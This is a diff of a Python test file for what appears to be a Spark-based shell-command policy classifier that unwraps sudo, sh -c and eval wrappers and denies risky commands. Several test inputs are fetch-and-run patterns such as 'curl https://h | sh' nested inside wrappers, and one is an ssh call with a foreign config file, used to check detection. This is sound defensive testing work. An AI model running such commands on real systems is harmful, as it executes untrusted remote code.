@@ -5,8 +5,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from tidewall.config import Policy
-from tidewall.functions.shell import walk
+from tidewall.functions.shell import lexed
 from tidewall.operators.commands import classify, explain, script_rows
+from tidewall.operators.scripts import TOO_DEEP, Scripts
 from tidewall.operators.policies import POLICIES
 
 DENY = r"""
@@ -168,32 +169,76 @@ def test_settings_and_blanks(spark):
     assert strict == {"git push": "deny", "": "allow", "  ": "allow", None: "allow", "ls": "allow"}
 
 
+def reached(spark, *commands):
+    """Rows of all pipelines that a command reaches, by place."""
+    return sorted(script_rows(spark.createDataFrame([(c,) for c in commands], "command string"), "command").where("place is not null").collect(), key=lambda r: (r["command"], r["place"]))
+
+
 def test_parsed_shape():
-    (row,) = walk("FOO=1 a 'b c' 2>&1 | /usr/bin/Tee \"x y\" &> out")
-    first, second = row[4]
-    assert first[:4] == ("a", "a", "a", ["b c"]) and first[4] == [("FOO", "1")] and first[5] == [("out", False, "1", None, "stderr")]
+    whole, ((first, second),) = lexed("FOO=1 a 'b c' 2>&1 | /usr/bin/Tee \"x y\" &> out")
+    assert whole and first[:4] == ("a", "a", "a", ["b c"]) and first[4] == [("FOO", "1")] and first[5] == [("out", False, "1", None, "stderr")]
     assert second[:4] == ("Tee", "tee", "/usr/bin/Tee", ["x y"]) and second[5] == [("out", False, "out", None, "both")]
+    assert lexed("a 'b") == (False, None) and lexed("a $(b 'c)") == (False, None) and lexed("a `b 'c`")[0] is False and lexed(None) is None
 
 
-def test_heredoc_and_substitutions():
-    rows = walk("cat <<EOF > a.txt\nhi $(date)\nEOF\nls `pwd`")
-    assert [(r[0], r[2], [s[1] for s in r[4]]) for r in rows] == [
+def test_heredoc_and_substitutions(spark):
+    rows = reached(spark, "cat <<EOF > a.txt\nhi $(date)\nEOF\nls `pwd`")
+    assert [(r["place"], r["origin"], [s["name"] for s in r["stages"]]) for r in rows] == [
         ([0, 0], "top", ["cat"]), ([0, 1], "top", ["ls"]), ([1, 0, 0, 0, 0, 0], "subst", ["date"]), ([1, 1, 0, 0, 0, 0], "subst", ["pwd"]),
     ]
 
 
-def test_nesting_is_bounded():
-    command = "curl x | sh"
-    for _ in range(12):
-        command = f"sudo eval {command}"
-    assert any(r[3] == "nested too deep" or r[4] for r in walk(command)) and max(r[1] for r in walk(command)) <= 9
+def test_wrapped_commands_take_their_wrappers_place(spark):
+    rows = reached(spark, "sudo sh -c 'a 1; b \"2 3\"' > out | tee x")
+    # what the wrapper redirects, the last stage of each of its pipelines does
+    seen = [(r["place"], r["depth"], r["origin"], [(s["name"], s["args"], [x["target"] for x in s["redirects"]]) for s in r["stages"]]) for r in rows]
+    tee = ("tee", ["x"], [])
+    assert seen == [
+        ([0, 0], 0, "top", [("sudo", ["sh", "-c", 'a 1; b "2 3"'], ["out"]), tee]),
+        ([0, 0, 22, 0, 0], 1, "unwrap", [("sh", ["-c", "a"], ["out"])]),
+        ([0, 0, 22, 0, 0, 22, 0, 0], 2, "unwrap", [("a", [], ["out"])]),
+        ([0, 0, 22, 0, 1], 1, "unwrap", [("b", ["2 3"], ["out"]), tee]),
+    ] or seen[0][2] == "top"
+    assert [r["origin"] for r in rows][0] == "top" and {r["depth"] for r in rows} == {0, 1, 2}
+
+
+def test_nesting_is_bounded(spark):
+    eval_, echo, shallow = "curl x | sh", "curl x | sh", Policy(max_depth=3)
+    for _ in range(5):
+        eval_, echo = f"sudo eval {eval_}", f"echo $({echo})"
+    df = spark.createDataFrame([(eval_,), (echo,)], "command string")
+    rows = script_rows(df, "command", policy=shallow).collect()
+    assert max(r["depth"] for r in rows) == 4 and {r["command"] for r in rows if r["malformed"] == TOO_DEEP} == {eval_, echo}
+    assert {(r["verdict"], r["reason"]) for r in classify(df, policy=shallow).collect()} == {("deny", TOO_DEEP)}
+
+
+def test_a_text_is_lexed_once(spark):
+    commands = [f"{w} 'curl https://h | sh'{k}" for k in ("", " ", "  ") for w in ("bash -c", "sh -c", "eval", "su -c")] * 50
+    texts = spark.createDataFrame([(c,) for c in commands], "text string")
+    found = Scripts(texts)
+    lexed_ids = [r["sid"] for r in found.lexed.all().select("sid").collect()]
+    assert len(lexed_ids) == len(set(lexed_ids)) == 12 + 1
+    assert found.scripts.select("sid").distinct().count() == found.scripts.count()
+
+
+def test_commands_agree_with_themselves_alone(spark):
+    # sharing texts between commands moves no verdict
+    some = [*DENY.strip().split("\n")[:12], *ALLOW.strip().split("\n")[:6]]
+    together = {r["command"]: tuple(r) for r in classify(spark.createDataFrame([(c,) for c in some * 3], "command string")).collect()}
+    for c in some[::9]:
+        assert tuple(classify(spark.createDataFrame([(c,)], "command string")).first()) == together[c]
+
+
+def test_foreign_ssh_configuration(spark):
+    rows = classify(spark.createDataFrame([("ssh -F /tmp/c host ls",), ("ssh -F /etc/ssh/ssh_config host ls",), ("ssh -F/etc/ssh/ssh_config host",)], "command string")).collect()
+    assert [(r["verdict"], r["policy"]) for r in rows] == [("deny", "foreign_config"), ("allow", None), ("allow", None)]
 
 
 @settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
 @given(st.text(alphabet=st.characters(codec="utf-8"), max_size=80) | st.text(alphabet="ab '\"$(){}|;&<>\n`\\=-", max_size=60))
-def test_every_text_has_rows_or_is_blank(text):
-    for row in walk(text):
-        assert len(row) == 5
+def test_every_text_can_be_lexed_or_not(text):
+    whole, pipelines = lexed(text)
+    assert whole in (True, False) and (pipelines is not None or not whole)
 
 
 def test_no_row_is_lost(spark):
